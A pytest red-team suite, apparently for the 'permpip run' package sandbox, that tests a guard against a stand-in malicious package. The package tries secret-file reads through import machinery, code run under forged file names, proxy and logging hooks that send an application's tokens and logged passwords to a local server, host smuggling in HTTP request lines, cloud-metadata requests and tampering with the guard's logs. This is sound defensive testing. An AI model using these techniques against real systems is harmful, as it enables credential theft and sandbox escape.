"""Red team of ``permpip run``, fourth round: the exemptions and checks of guard14 (reads of
what is installed, hosts named through a proxy, ``dir_fd``), then the import system as a
deputy, code named after someone else, and standard library objects a package configures.

Same style as tests/runtime/test_guard_redteam.py (whose ``attack`` fixture this reuses): a
package ``evil`` installed with a RECORD, ``main.py`` (the application) run under
``permpip run`` for real, a harmless payload (a file in the test's directory, a request to
a server on 127.0.0.1 started by the test). An attempt the guard stops is a plain test; one
that succeeds is marked ``xfail(strict=True, reason="bypass (<class>): <mechanism>")``.
Precision cases (legitimate use that must not be reported) are plain tests too.
"""

from __future__ import annotations

import socket
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.runtime.conftest import RunPermpip, Target, install_fake
from tests.runtime.test_guard_evidence import GUARD_DIR as FIND_GUARD_DIR
from tests.runtime.test_guard_redteam import Outcome, attack, bypass
from tests.runtime.test_guard_redteam3 import tried
from tests.runtime.test_renamed_bytecode import _pyc

SECRET = "s3cret-file-content"


def _secret(tmp_path: Path, name: str = "secret.txt",
            text: str = f"TOKEN = '{SECRET}'\n") -> Path:
    """A file of the application's that evil is granted no read of."""
    d = tmp_path / "private"
    d.mkdir(exist_ok=True)
    p = d / name
    p.write_text(text)
    return p


LEAK = (
    "def go():\n"
    "    try:\n"
    "        print('LEAK', repr({read}))\n"
    "    except PermissionError:\n"
    "        print('refused')\n"
    "    except Exception as exc:\n"
    "        print('error', type(exc).__name__, exc)\n")


def leak(read: str, prelude: str = "") -> str:
    return prelude + LEAK.replace("{read}", read)


# -- 1. reads of what is installed: importlib.metadata and linecache ---------------------------


def test_metadata_reads_a_file_put_on_sys_path(tmp_path: Path,
                                               run_permpip: RunPermpip) -> None:
    secret = _secret(tmp_path)
    o = attack(tmp_path, run_permpip, leak(
        "importlib.metadata.PathDistribution(pathlib.Path(S)).read_text('')", (
            "import importlib.metadata, pathlib, sys\n"
            f"S = {str(secret)!r}\n"
            "sys.path.append(S)\n")), enforce=True)
    assert SECRET not in o.output, o.output
    assert o.used == [("evil", "fs-read")]


def test_metadata_lists_a_directory_put_on_sys_path(tmp_path: Path,
                                                    run_permpip: RunPermpip) -> None:
    secret = _secret(tmp_path, "id_ed25519")
    o = attack(tmp_path, run_permpip, leak(
        "sorted(importlib.metadata.FastPath(D).children())", (
            "import importlib.metadata, sys\n"
            f"D = {str(secret.parent)!r}\n"
            "sys.path.append(D)\n")), enforce=True)
    assert "id_ed25519" not in o.output, o.output
    assert o.used == [("evil", "fs-read")]


def test_metadata_listing_a_directory_not_on_sys_path(tmp_path: Path,
                                                      run_permpip: RunPermpip) -> None:
    secret = _secret(tmp_path, "id_ed25519")
    o = attack(tmp_path, run_permpip, leak(
        "sorted(importlib.metadata.FastPath(D).children())", (
            "import importlib.metadata\n"
            f"D = {str(secret.parent)!r}\n")), enforce=True)
    assert "id_ed25519" not in o.output, o.output
    assert ("refused" in o.output or "LEAK []" in o.output), o.output
    assert o.used == [("evil", "fs-read")]


def test_metadata_through_a_symlink_named_dist_info(tmp_path: Path,
                                                    run_permpip: RunPermpip) -> None:
    """A ``leak-1.0.dist-info`` in site-packages (a sys.path entry) that is a symlink to a
    private directory: compared by real path, the read is evil's."""
    secret = _secret(tmp_path)
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "leak-1.0.dist-info").symlink_to(secret.parent)
    o = attack(tmp_path, run_permpip, leak(
        "importlib.metadata.distribution('leak').read_text('secret.txt')",
        "import importlib.metadata\n"), enforce=True)
    assert SECRET not in o.output and ("refused" in o.output or "LEAK None" in o.output)
    assert o.used == [("evil", "fs-read")]


def test_metadata_reads_a_hard_link_in_a_dist_info_it_made(tmp_path: Path,
                                                           run_permpip: RunPermpip) -> None:
    secret = _secret(tmp_path)
    o = attack(tmp_path, run_permpip, leak("_read()", (
        "import importlib.metadata, os, pathlib, sys\n"
        f"S = {str(secret)!r}\n"
        "def _read():\n"
        "    info = os.path.join('@MARKER@', 'x-1.0.dist-info')\n"
        "    os.makedirs(info)\n"
        "    os.link(S, os.path.join(info, 'METADATA'))\n"
        "    sys.path.append('@MARKER@')\n"
        "    return importlib.metadata.PathDistribution(pathlib.Path(info))"
        ".read_text('METADATA')\n")), grant='["fs-write"]', enforce=True)
    assert SECRET not in o.output, o.output
    assert o.used == [("evil", "fs-read")]


def test_linecache_reads_an_application_file_a_fake_record_claims(
        tmp_path: Path, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, leak(
        "linecache.getline(os.path.abspath('settings.py'), 1)", (
            "import linecache, os, sys\n"
            "sys.path.insert(0, os.path.join(os.path.dirname(__file__), '_meta'))\n"
            "import evil._again  # a new file name: the guard reads sys.path again\n")),
        files={"evil/_again.py": "\n",
               "evil/_meta/fake-1.0.dist-info/RECORD":
                   "../../../project/settings.py,,\n"}, main=(
            f"open('settings.py', 'w').write(\"SECRET_KEY = '{SECRET}'\\n\")\n"
            "import evil\n"
            "evil.go()\n"), enforce=True)
    assert SECRET not in o.output, o.output
    assert o.used == [("evil", "fs-read")]


def test_linecache_with_a_name_leading_out_of_the_standard_library(
        tmp_path: Path, run_permpip: RunPermpip) -> None:
    """``<stdlib>/../../..../private/secret.py``: starts with the standard library's
    directory as text, compared by real path."""
    secret = _secret(tmp_path, "secret.py")
    o = attack(tmp_path, run_permpip, leak(
        "linecache.getline(os.path.dirname(os.__file__) + '/..' * 12 + S, 1)", (
            "import linecache, os\n"
            f"S = {str(secret)!r}\n")), enforce=True)
    assert SECRET not in o.output, o.output
    assert o.used == [("evil", "fs-read")]


# the import system is not a use: its own frames read files for anyone who calls them
IMPORT_SYSTEM_READS = [
    "pkgutil.get_data('evil', '../../private/secret.txt')",
    "importlib.machinery.SourceFileLoader('x', S).get_data(S)",
    "importlib.machinery.SourcelessFileLoader('x', S).get_data(S)",
    "linecache.getlines('no-such-file.py', {'__name__': 'x', '__loader__': "
    "importlib.machinery.SourceFileLoader('x', S)})",
    "importlib.machinery.SourceFileLoader('x', S).get_source('x')",
]


@pytest.mark.parametrize("read", IMPORT_SYSTEM_READS)
def test_reads_through_a_loaders_get_data(tmp_path: Path, run_permpip: RunPermpip,
                                          read: str) -> None:
    secret = _secret(tmp_path)
    o = attack(tmp_path, run_permpip, leak(read, (
        "import importlib.machinery, linecache, pkgutil\n"
        f"S = {str(secret)!r}\n")), enforce=True)
    assert SECRET not in o.output, o.output
    assert o.used == [("evil", "fs-read")]


def test_listing_through_a_file_finder(tmp_path: Path, run_permpip: RunPermpip) -> None:
    secret = _secret(tmp_path, "id_ed25519")
    o = attack(tmp_path, run_permpip, leak("_ls()", (
        "import importlib.machinery\n"
        f"D = {str(secret.parent)!r}\n"
        "def _ls():\n"
        "    f = importlib.machinery.FileFinder(D)\n"
        "    f._fill_cache()\n"
        "    return sorted(f._path_cache)\n")), enforce=True)
    assert "id_ed25519" not in o.output, o.output
    assert o.used == [("evil", "fs-read")]


def test_reading_a_zip_through_zipimport(tmp_path: Path, run_permpip: RunPermpip) -> None:
    archive = tmp_path / "private" / "backup.zip"
    archive.parent.mkdir()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("db/credentials.txt", SECRET)
    o = attack(tmp_path, run_permpip, leak(
        "zipimport.zipimporter(A).get_data('db/credentials.txt')", (
            "import zipimport\n"
            f"A = {str(archive)!r}\n")), enforce=True)
    assert SECRET not in o.output, o.output
    assert o.used == [("evil", "fs-read")]


def test_importlib_resources_leading_out_of_the_package(tmp_path: Path,
                                                        run_permpip: RunPermpip) -> None:
    """importlib.resources reads through pathlib, not the import system: judged."""
    _secret(tmp_path)
    o = attack(tmp_path, run_permpip, leak(
        "importlib.resources.files('evil').joinpath('../../private/secret.txt').read_text()",
        "import importlib.resources\n"), enforce=True)
    assert SECRET not in o.output and "refused" in o.output, o.output
    assert o.used == [("evil", "fs-read")]


# precision: what the exemptions are for


@pytest.mark.parametrize("read", [
    "linecache.getline(__file__, 1)",
    # importlib.metadata.version/files: tests/runtime/test_guard_cry_wolf.py
])
def test_installed_reads_are_not_reported(tmp_path: Path, run_permpip: RunPermpip,
                                          read: str) -> None:
    o = attack(tmp_path, run_permpip, leak(read, "import importlib.metadata, linecache\n"),
               enforce=True)
    assert o.output.startswith("LEAK "), o.output
    assert o.used == [] and o.code == 0


@pytest.mark.parametrize("load", [
    # importlib.util.find_spec lists sys.path as an import does
    "importlib.util.find_spec('evil._lazy') is not None and "
    "importlib.util.find_spec('no_such_module_x') is None",
    # a lazy module's first attribute runs its loader (importlib.util.LazyLoader)
    "_lazy('evil._lazy').VALUE",
    "importlib.reload(importlib.import_module('evil._lazy')).VALUE",
])
def test_imports_by_other_entry_points_are_not_reads(tmp_path: Path, run_permpip: RunPermpip,
                                                     load: str) -> None:
    o = attack(tmp_path, run_permpip, leak(load, (
        "import importlib, importlib.util, sys\n"
        "def _lazy(name):\n"
        "    spec = importlib.util.find_spec(name)\n"
        "    spec.loader = importlib.util.LazyLoader(spec.loader)\n"
        "    module = importlib.util.module_from_spec(spec)\n"
        "    sys.modules[name] = module\n"
        "    spec.loader.exec_module(module)\n"
        "    return module\n")), files={"evil/_lazy.py": "VALUE = 41 + 1\n"},
        enforce=True)
    assert o.output.splitlines()[-1] in ("LEAK 42", "LEAK True"), o.output
    assert o.used == [] and o.code == 0


def test_a_loader_called_directly_reads_for_its_caller(tmp_path: Path,
                                                       run_permpip: RunPermpip) -> None:
    """spec_from_file_location + exec_module on a file of the application's: the import
    system works for the caller (its fs-read), and the code run is the file's."""
    o = attack(tmp_path, run_permpip, leak("_load().TOKEN", (
        "import importlib.util, os\n"
        "def _load():\n"
        "    spec = importlib.util.spec_from_file_location('s', os.path.abspath('conf.py'))\n"
        "    module = importlib.util.module_from_spec(spec)\n"
        "    spec.loader.exec_module(module)\n"
        "    return module\n")), main=(
        f"open('conf.py', 'w').write(\"TOKEN = '{SECRET}'\\n\")\n"
        "import evil\n"
        "evil.go()\n"), enforce=True)
    assert SECRET not in o.output and "refused" in o.output, o.output
    assert o.used == [("evil", "fs-read")]


def test_importing_from_a_zip_on_sys_path_is_not_a_read(tmp_path: Path,
                                                        run_permpip: RunPermpip) -> None:
    archive = tmp_path / "plugins.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("zplug.py", "VALUE = 41 + 1\n")
    o = attack(tmp_path, run_permpip, leak("zplug.VALUE", (
        "import sys\n"
        f"sys.path.append({str(archive)!r})\n"
        "import zplug\n")), enforce=True)
    assert o.output.splitlines() == ["LEAK 42"], o.output
    assert o.used == [] and o.code == 0


def test_own_data_through_importlib_resources_with_a_runtime_grant(
        tmp_path: Path, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, leak(
        "importlib.resources.files('evil').joinpath('data.txt').read_text()",
        "import importlib.resources\n"), files={"evil/data.txt": "payload-data"},
        grant='["fs-read"]', enforce=True)
    assert o.output.splitlines() == ["LEAK 'payload-data'"], o.output
    assert o.used == [] and o.code == 0


# -- 2. the import system as a deputy: code compiled and run under any name --------------------

LOADER = (
    "import importlib.abc, importlib.util, os, sys\n"
    "class _Loader(importlib.abc.SourceLoader):\n"
    "    def __init__(self, name, source):\n"
    "        self.name, self.source = name, source\n"
    "    def get_filename(self, fullname):\n"
    "        return self.name\n"
    "    def get_data(self, path):\n"
    "        return self.source\n"
    "def _run_as(name, source):\n"
    "    loader = _Loader(name, source)\n"
    "    spec = importlib.util.spec_from_loader('_payload', loader, origin=name)\n"
    "    module = importlib.util.module_from_spec(spec)\n"
    "    loader.exec_module(module)\n"
    "    return module\n")

NET_PAYLOAD = (
    "b'''import urllib.request\n"
    "try:\n"
    "    urllib.request.urlopen(\"@URL@\").read()\n"
    "    print(\"payload: sent\")\n"
    "except OSError as exc:\n"
    "    print(\"payload:\", type(getattr(exc, \"reason\", exc)).__name__)\n"
    "'''")


@pytest.mark.parametrize("name", [
    "os.path.abspath(sys.modules['__main__'].__file__)",
    "'/nonexistent/app.py'",
])
def test_a_custom_loader_runs_code_as_the_application(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, name: str) -> None:
    o = attack(tmp_path, run_permpip, LOADER + (
        f"_run_as({name}, {NET_PAYLOAD})\n"
        "def go():\n"
        "    pass\n"), target=target, enforce=True)
    assert target.requests == [], o.output
    assert ("evil", "network") in o.used


def test_a_custom_loader_plants_a_stdlib_named_function(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, LOADER + (
        "_src = b'''import json, urllib.request\n"
        "_real = json.dumps\n"
        "def dumps(obj, **kw):\n"
        "    try:\n"
        "        urllib.request.urlopen(\"@URL@\").read()\n"
        "    except OSError:\n"
        "        pass\n"
        "    return _real(obj, **kw)\n"
        "json.dumps = dumps\n"
        "'''\n"
        "_run_as(os.path.join(os.path.dirname(os.__file__), 'json', 'encoder2.py'), _src)\n"
        "def go():\n"
        "    pass\n"), main="import evil, json\nprint(json.dumps({'a': 1}))\n",
        target=target, enforce=True)
    assert target.requests == [], o.output
    assert ("evil", "network") in o.used


def test_a_pyc_run_under_a_granted_distributions_name(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    site = tmp_path / "site"
    install_fake(site, "good", "1.0", {"good/__init__.py": "\n"})
    good = str(site / "good" / "__init__.py")
    pyc = _pyc(
        "import urllib.request\n"
        "try:\n"
        f"    urllib.request.urlopen({target.url!r}).read()\n"
        "    print('payload: sent')\n"
        "except OSError as exc:\n"
        "    print('payload:', type(getattr(exc, 'reason', exc)).__name__)\n", good)
    o = attack(tmp_path, run_permpip, (
        "import importlib.machinery, importlib.util\n"
        f"_PYC = bytes.fromhex({pyc.hex()!r})\n"
        "class _L(importlib.machinery.SourcelessFileLoader):\n"
        "    def get_data(self, path):\n"
        "        return _PYC\n"
        "def go():\n"
        f"    spec = importlib.util.spec_from_file_location('_p', {good!r},\n"
        f"                                                  loader=_L('_p', {good!r}))\n"
        "    spec.loader.exec_module(importlib.util.module_from_spec(spec))\n"),
        policy={"good": '["network"]'}, target=target, enforce=True)
    assert target.requests == [], o.output
    assert ("evil", "network") in o.used


INSTRUMENTING = (
    "import ast, importlib.machinery, sys\n"
    "class _Loader(importlib.machinery.SourceFileLoader):\n"
    "    def source_to_code(self, data, path, *, _optimize=-1):\n"
    "        tree = ast.parse(data)  # instrumented here, as typeguard and beartype do\n"
    "        return compile(tree, path, 'exec', dont_inherit=True)\n"
    "class _Finder:\n"
    "    def find_spec(self, name, path=None, target=None):\n"
    "        if name != 'appmod':\n"
    "            return None\n"
    "        spec = importlib.machinery.PathFinder.find_spec(name, path)\n"
    "        spec.loader = _Loader(spec.loader.name, spec.loader.path)\n"
    "        return spec\n"
    "sys.meta_path.insert(0, _Finder())\n"
    "def go():\n"
    "    pass\n")


def test_an_instrumenting_loader_granted_dynamic_code_runs_the_applications_code(
        tmp_path: Path, run_permpip: RunPermpip) -> None:
    """Precision: a loader of a package granted dynamic-code that compiles the
    application's module from its file (an AST it rewrote) runs it as that file, as
    ``exec`` of such code does: what the module does is the application's."""
    o = attack(tmp_path, run_permpip, INSTRUMENTING, main=(
        "import sys, os\n"
        "sys.path.insert(0, os.path.abspath('.'))\n"
        "open('appmod.py', 'w').write(\"open('@MARKER@', 'w').write('app')\\n\")\n"
        "import evil\n"
        "import appmod\n"
        "print('loaded by', type(appmod.__loader__).__name__)\n"),
        grant='["dynamic-code"]', enforce=True)
    assert o.output.splitlines() == ["loaded by _Loader"], o.output
    assert o.marker.read_text() == "app"
    assert o.used == [] and o.code == 0


def _attack_with_pyc(tmp_path: Path, run_permpip: RunPermpip, target: Target,
                     pyc: bytes) -> Outcome:
    """evil ships ``evil/_p.pyc`` (no source) and imports it."""
    site = tmp_path / "site"
    install_fake(site, "good", "1.0", {"good/__init__.py": "\n"})
    (site / "evil").mkdir(parents=True)
    (site / "evil" / "_p.pyc").write_bytes(pyc)
    return attack(tmp_path, run_permpip, "def go():\n    import evil._p\n",
                  policy={"good": '["network"]'}, target=target, enforce=True)


def test_a_shipped_pyc_naming_a_granted_distribution(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    """The import system loads evil/_p.pyc, whose code says it is good/__init__.py: the
    code is the file loaded's (evil's, found by its directory: the .pyc is in no RECORD)."""
    good = str(tmp_path / "site" / "good" / "__init__.py")
    pyc = _pyc("import urllib.request\n"
               f"urllib.request.urlopen({target.url!r}).read()\n", good)
    o = _attack_with_pyc(tmp_path, run_permpip, target, pyc)
    assert target.requests == [], o.output
    v = o.violation("network")
    assert (v["package"], v["phase"], v["where"]) == ("evil", "import", "evil/_p.pyc:2")


CODE_NAMES = [
    "_p.__code__.replace(co_filename='<frozen importlib._bootstrap>')",
    "_p.__code__.replace(co_filename='<frozen zipimport>')",
]


@pytest.mark.parametrize("renamed", CODE_NAMES)
def test_code_named_as_the_import_system_writes(tmp_path: Path, run_permpip: RunPermpip,
                                                renamed: str) -> None:
    o = attack(tmp_path, run_permpip, (
        "import types\n"
        "def _p():\n"
        "    open('@MARKER@', 'w').write('x')\n"
        "def go():\n"
        f"    types.FunctionType({renamed}, globals())()\n"), grant='["dynamic-code"]',
        enforce=True)
    assert not o.marker.exists(), o.output
    assert o.used == [("evil", "fs-write")]


def test_the_import_systems_bytecode_writer(tmp_path: Path, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import importlib._bootstrap_external as be\n"
        "def go():\n"
        "    try:\n"
        "        be._write_atomic('@MARKER@', b'payload from evil')\n"
        "    except PermissionError:\n"
        "        print('refused')\n"), enforce=True)
    left = sorted(p.name for p in tmp_path.glob("marker*"))
    assert left == [], (left, o.output)
    assert o.used == [("evil", "fs-write")]


@pytest.mark.parametrize("name", [
    "os.path.join(os.path.dirname(os.__file__), 'json', 'x.py')",
    "os.path.abspath(sys.modules['__main__'].__file__)",
])
def test_exec_of_code_compiled_under_another_name_with_dynamic_code(
        tmp_path: Path, target: Target, run_permpip: RunPermpip, name: str) -> None:
    """compile() by the package itself (not the import system) under a standard library or
    application name, granted dynamic-code: the name is recorded as the package's."""
    o = attack(tmp_path, run_permpip, (
        "import os, sys\n"
        "def go():\n"
        "    src = 'import urllib.request\\nurllib.request.urlopen(\"@URL@\").read()\\n'\n"
        "    try:\n"
        f"        exec(compile(src, {name}, 'exec'), {{'__name__': 'json.x'}})\n"
        "    except OSError as exc:\n"
        "        print('refused', type(getattr(exc, 'reason', exc)).__name__)\n"),
        grant='["dynamic-code"]', target=target, enforce=True)
    assert target.requests == [] and "refused PermissionError" in o.output, o.output
    assert o.used == [("evil", "network")]


def test_a_module_lying_about_its_file_and_spec(tmp_path: Path, target: Target,
                                                run_permpip: RunPermpip) -> None:
    """``__file__``, ``__spec__.origin``, ``__loader__`` rebound to the application's:
    attribution reads code objects, not module attributes."""
    o = attack(tmp_path, run_permpip, (
        "import importlib.machinery, os, sys, urllib.request\n"
        "_app = os.path.abspath(sys.modules['__main__'].__file__)\n"
        "__file__ = _app\n"
        "__spec__.origin = _app\n"
        "__loader__ = importlib.machinery.SourceFileLoader('__main__', _app)\n"
        "__name__ = '__main__'\n"
        "def go():\n"
        "    try:\n"
        "        urllib.request.urlopen('@URL@').read()\n"
        "    except OSError as exc:\n"
        "        print('refused', type(getattr(exc, 'reason', exc)).__name__)\n"),
        grant='["network"]', target=target, enforce=True)
    # granted at run time only: go() runs at run time, so the request is its own and allowed
    assert target.requests == ["/beacon"] and o.used == [], o.output


def test_a_generator_of_the_package_resumed_by_the_application(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import urllib.request\n"
        "def pages():\n"
        "    yield 1\n"
        "    try:\n"
        "        urllib.request.urlopen('@URL@').read()\n"
        "    except OSError as exc:\n"
        "        print('refused', type(getattr(exc, 'reason', exc)).__name__)\n"
        "    yield 2\n"), main="import evil\nprint(list(evil.pages()))\n", target=target,
        enforce=True)
    assert target.requests == [] and "refused PermissionError" in o.output, o.output
    assert o.used == [("evil", "network")]


# -- 3. standard library objects a package configures, used by the application ---------------


@bypass("configured-stdlib", "a package granted nothing installs a urllib opener with a "
        "standard library ProxyHandler (urllib.request.install_opener): the application's "
        "own requests, with their query strings and headers, then go to the package's server; "
        "no event names the package, the connect is the application's")
def test_install_opener_redirects_the_applications_requests(
        tmp_path: Path, target: Target, run_permpip: RunPermpip) -> None:
    o = attack(tmp_path, run_permpip, (
        "import urllib.request\n"
        "urllib.request.install_opener(urllib.request.build_opener(\n"
        "    urllib.request.ProxyHandler({'http': 'http://127.0.0.1:@PORT@'})))\n"
        "def go():\n"
        "    pass\n"), main=(
        "import urllib.request\n"
        "import evil\n"
        "try:\n"
        "    urllib.request.urlopen('http://internal.test/api?token=app-secret').read()\n"
        "except OSError:\n"
        "    pass\n"), target=target, enforce=True)
    assert target.requests == [], target.requests
    assert ("evil", "network") in o.used


@pytest.mark.parametrize("handler", [
    "logging.FileHandler('@MARKER@', delay=True)",
    "logging.handlers.HTTPHandler('127.0.0.1:@PORT@', '/beacon', method='GET')",
])
@bypass("configured-stdlib", "a package granted nothing adds a standard library logging "
        "handler to the root logger (FileHandler with delay=True, HTTPHandler: neither opens "
        "anything when made): every record the application logs, secrets included, is "
        "written to a file or sent to a server of the package's choosing, from the "
        "application's frames")
def test_a_logging_handler_the_package_adds(tmp_path: Path, target: Target,
                                            run_permpip: RunPermpip, handler: str) -> None:
    o = attack(tmp_path, run_permpip, (
        "import logging, logging.handlers\n"
        f"logging.getLogger().addHandler({handler})\n"
        "logging.getLogger().setLevel(logging.INFO)\n"
        "def go():\n"
        "    pass\n"), main=(
        "import logging\n"
        "import evil\n"
        "logging.getLogger('app').info('db password is hunter2')\n"), target=target,
        enforce=True)
    assert not o.marker.exists() and target.requests == [], o.output
    assert o.used and o.used[0][0] == "evil"


# -- 4. hosts through a proxy: the request line the proxy reads --------------------------------


class RawProxy:
    """A TCP server on 127.0.0.1 that stands for an HTTP proxy: it records every byte it
    receives and answers each connection with one ``200``."""

    def __init__(self) -> None:
        self.chunks: list[bytes] = []
        self.handlers: list[threading.Thread] = []
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            t = threading.Thread(target=self._handle, args=(conn,), daemon=True)
            self.handlers.append(t)
            t.start()

    def _handle(self, conn: socket.socket) -> None:
        conn.settimeout(1.5)
        buf = b""
        try:
            while b"\r\n\r\n" not in buf and b"\n\n" not in buf:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                self.chunks.append(chunk)
                buf += chunk
            conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
        except OSError:
            pass
        conn.close()

    @property
    def received(self) -> bytes:
        for t in list(self.handlers):
            t.join(3)
        return b"".join(self.chunks)

    def stop(self) -> None:
        self.sock.close()


@pytest.fixture
def proxy() -> Iterator[RawProxy]:
    p = RawProxy()
    yield p
    p.stop()


LOCAL = '{ allow = ["network"], hosts = ["localhost"] }'
LOCAL_AND_ALLOWED = '{ allow = ["network"], hosts = ["localhost", "allowed.test"] }'

SEND = (
    "import http.client\n"
    "def go():\n"
    "    c = http.client.HTTPConnection('localhost', @PORT@)\n"
    "    c.connect()\n"
    "    try:\n"
    "        c.send({data})\n"
    "        print('sent')\n"
    "    except PermissionError:\n"
    "        print('refused')\n"
    "    c.close()\n")


def _through_proxy(tmp_path: Path, run_permpip: RunPermpip, proxy: RawProxy, evil: str,
                   grant: str = LOCAL, env: dict[str, str] | None = None) -> Outcome:
    return attack(tmp_path, run_permpip, evil.replace("@PORT@", str(proxy.port)), grant=grant,
                  env=env, enforce=True)


@pytest.mark.parametrize("data", [
    # -- a request line in a lax form
    # a bare LF ends the request line (RFC 9112 2.2: a recipient MAY accept it)
    "b'GET http://forbidden.test/secret HTTP/1.1\\nHost: forbidden.test\\n\\n'",
    # two spaces, a tab: the guard splits on one space exactly (RFC 9112 3: a recipient
    # MAY split on whitespace)
    "b'GET  http://forbidden.test/secret HTTP/1.1\\r\\nHost: forbidden.test\\r\\n\\r\\n'",
    "b'GET\\thttp://forbidden.test/secret\\tHTTP/1.1\\r\\nHost: forbidden.test\\r\\n\\r\\n'",
    # HTTP/0.9: no version
    "b'GET http://forbidden.test/secret\\r\\n\\r\\n'",
    # -- a request line read otherwise by the proxy
    # WHATWG URL parsers (and proxies built on them) read '\' as '/': host forbidden.test
    "b'GET http://forbidden.test\\\\@localhost/secret HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'",
    # the guard cuts the authority at '#'; a parser that cuts it at the last '@' does not
    "b'GET http://localhost#@forbidden.test/secret HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'",
    # a method the guard compares case-sensitively
    "b'connect forbidden.test:443 HTTP/1.1\\r\\n\\r\\n'",
    # an empty line before the request line (RFC 9112 2.2: a server SHOULD ignore at least
    # one; http.server does not)
    "b'\\r\\nGET http://forbidden.test/secret HTTP/1.1\\r\\nHost: forbidden.test\\r\\n\\r\\n'",
])
def test_a_request_line_in_a_lax_form_or_read_otherwise(
        tmp_path: Path, run_permpip: RunPermpip, proxy: RawProxy, data: str) -> None:
    o = _through_proxy(tmp_path, run_permpip, proxy, SEND.replace("{data}", data))
    assert b"forbidden.test" not in proxy.received, o.output
    assert o.used == [("evil", "network")]


@pytest.mark.parametrize("send", [
    "urllib.request.urlopen('http://169.254.169.254/latest/meta-data/').read()",
    "urllib.request.urlopen('http://[::ffff:a9fe:a9fe]/latest/meta-data/').read()",
    "c = http.client.HTTPConnection('localhost', @PORT@); c.set_tunnel('169.254.169.254', 80);"
    " c.request('GET', '/latest/meta-data/')",
])
def test_an_address_literal_through_the_proxy(tmp_path: Path, run_permpip: RunPermpip,
                                              proxy: RawProxy, send: str) -> None:
    o = _through_proxy(
        tmp_path, run_permpip, proxy, "import http.client, urllib.request\n" + tried(send),
        env={"http_proxy": "http://localhost:@PORT@".replace("@PORT@", str(proxy.port))})
    got = proxy.received
    assert b"169.254.169.254" not in got and b"a9fe" not in got, o.output
    assert o.used == [("evil", "network")]


def test_a_host_header_naming_another_host(tmp_path: Path, run_permpip: RunPermpip,
                                           proxy: RawProxy) -> None:
    o = _through_proxy(tmp_path, run_permpip, proxy, (
        "import http.client\n"
        "def go():\n"
        "    c = http.client.HTTPConnection('localhost', @PORT@)\n"
        "    c.request('GET', '/secret', headers={'Host': 'forbidden.test'})\n"
        "    print('sent')\n"))
    assert b"forbidden.test" not in proxy.received, o.output
    assert o.used == [("evil", "network")]


@pytest.mark.parametrize("url", [
    "http://localhost@forbidden.test/secret",
    "http://localhost:80@forbidden.test/secret",
    "HTTP://FORBIDDEN.TEST/secret",
])
def test_userinfo_and_case_through_the_proxy(tmp_path: Path, run_permpip: RunPermpip,
                                             proxy: RawProxy, url: str) -> None:
    o = _through_proxy(tmp_path, run_permpip, proxy, SEND.replace(
        "{data}", repr(f"GET {url} HTTP/1.1\r\nHost: x\r\n\r\n".encode())))
    assert b"forbidden" not in proxy.received.lower(), o.output
    assert "refused" in o.output and o.used == [("evil", "network")]


@pytest.mark.parametrize("url", [
    "http://allowed.test./ok",
    "http://ALLOWED.test/ok",
    "http://user:pw@allowed.test/ok",
])
def test_allowed_hosts_through_the_proxy_are_not_reported(
        tmp_path: Path, run_permpip: RunPermpip, proxy: RawProxy, url: str) -> None:
    """Precision: a trailing dot, capitals, userinfo on an allowed host."""
    o = _through_proxy(tmp_path, run_permpip, proxy, (
        "import urllib.request\n"
        "def go():\n"
        f"    print(urllib.request.urlopen({url!r}).read())\n"), grant=LOCAL_AND_ALLOWED,
        env={"http_proxy": f"http://localhost:{proxy.port}"})
    assert "b'ok'" in o.output, o.output
    assert o.used == [] and o.code == 0


def test_an_origin_request_with_an_absolute_url_of_its_host(
        tmp_path: Path, run_permpip: RunPermpip, proxy: RawProxy) -> None:
    """Precision: an absolute-form request to the allowed host itself."""
    o = _through_proxy(tmp_path, run_permpip, proxy, SEND.replace(
        "{data}", "b'GET http://localhost:@PORT@/x HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n'"
        .replace("@PORT@", str(proxy.port))))
    assert o.output.splitlines() == ["sent"], o.output
    assert o.used == [] and o.code == 0


def test_a_request_head_naming_no_host(tmp_path: Path, run_permpip: RunPermpip,
                                       proxy: RawProxy) -> None:
    """Precision: an HTTP/1.0 origin-form request with no Host header names no host beyond
    the connection's own (judged at the connect): sent, nothing reported."""
    o = _through_proxy(tmp_path, run_permpip, proxy, SEND.replace(
        "{data}", "b'GET /x HTTP/1.0\\r\\n\\r\\n'"))
    assert o.output.splitlines() == ["sent"], o.output
    assert o.used == [] and o.code == 0
    assert proxy.received.startswith(b"GET /x HTTP/1.0\r\n"), proxy.received


# -- 5. the guard's files: dir_fd, links, renames ------------------------------------------------

GUARD_DIR = FIND_GUARD_DIR + (
    "import shutil\n"
    "def _reraise(function, path, exc_info):\n"
    "    raise exc_info[1]\n")


@pytest.mark.parametrize("change", [
    "os.link('events.jsonl', '@MARKER@', src_dir_fd=fd)",
    "os.link(os.path.join(_guard_dir(), 'events.jsonl'), '@MARKER@')",
    "os.replace('@MARKER@.new', 'events.jsonl', dst_dir_fd=fd)",
    "os.replace('@MARKER@.new', 'policy.bin', src_dir_fd=None, dst_dir_fd=fd)",
    "open('/proc/self/fd/%d/events.jsonl' % fd, 'w')",
    "(os.chdir(_guard_dir()), open('events.jsonl', 'a'))",
    "(os.fchdir(fd), os.truncate('events.jsonl', 0))",
    "shutil._rmtree_safe_fd(fd, _guard_dir(), _reraise)",
